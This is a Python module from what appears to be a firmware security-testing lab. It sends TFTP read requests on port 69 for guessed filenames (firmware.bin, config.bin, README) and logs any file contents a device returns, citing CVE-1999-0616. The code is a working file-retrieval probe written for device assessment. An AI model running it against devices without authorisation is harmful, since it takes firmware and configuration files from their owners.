"""Files that TFTP hands to whoever knows their names."""

from contextlib import closing

from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.links import RUNNING
from firmward.lab.means import network
from firmward.lab.station import Station
from firmward.lab.target import Powered, Target, Witness

PORT = 69
ASK, DATA = b"\0\1", b"\0\3"
NAMES = ("firmware.bin", "README", "config.bin")
"""What lies in such folders; there is no way to list them."""
SECONDS = 1.5


def run(target: Target) -> Result:
    with closing(Station()) as station:
        return network.attacked(target, ATTACK, lambda powered: _strike(powered, station), station)


def _strike(powered: Powered, station: Station) -> bool:
    for name in NAMES:
        answer = station.ask(PORT, request(name), SECONDS)
        if answer is not None and answer.data[:2] == DATA and len(answer.data) > 4:
            begins = answer.data[4:44].decode("utf-8", "replace").strip()
            powered.target.note(Witness.NETWORK, f"the device sent {name}, which begins with: {begins}")
            return True
    return False


def request(name: str) -> bytes:
    """RFC 1350."""
    return ASK + name.encode() + b"\0octet\0"


ATTACK = Attack(
    id="tftp-theft",
    title="Files taken by TFTP",
    does="asks the device by TFTP for files of usual names",
    position=Position.NETWORK,
    link=RUNNING,
    case="CVE-1999-0616: the TFTP service is running",
    foretold=("plaintext-protocol", "undeclared-listener"),
    run=run,
    within=120.0,
)
